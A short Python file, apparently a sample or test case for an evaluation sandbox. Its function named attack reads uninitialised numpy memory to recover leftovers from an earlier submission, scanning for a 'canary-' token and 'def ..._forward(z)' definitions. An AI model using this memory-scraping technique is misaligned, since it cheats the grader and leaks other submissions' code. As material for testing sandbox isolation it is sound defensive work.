"""Wants what was in memory before: of the submission before this one, for example."""

import re

import numpy as np


def attack():
    for size in (64, 512, 4096, 2**16, 2**20):
        for _ in range(4):
            left = np.empty(size, np.uint8).tobytes()
            found = re.findall(rb"canary-[0-9a-f]{32}|def [a-z]+_forward\(z\)", left)
            if any(b"canary" in item for item in found):
                return found
